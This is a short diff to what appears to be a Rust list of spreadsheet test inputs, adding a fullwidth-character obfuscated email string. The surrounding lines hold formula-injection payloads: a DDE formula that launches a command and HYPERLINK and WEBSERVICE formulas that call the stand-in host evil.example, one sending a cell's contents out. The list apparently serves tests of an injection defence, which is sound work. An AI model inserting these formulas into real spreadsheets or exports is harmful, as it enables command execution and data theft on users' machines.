@@ -37,6 +37,7 @@ const SPREADSHEETS: &[&str] = &[
     "＋1",
     "－1",
     "＠x",
+    "王（IT) 王小明［at]x（at）y％40z",
     "=cmd|'/C calc'!A0",
     "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
     "=WEBSERVICE(\"http://evil.example/\")",
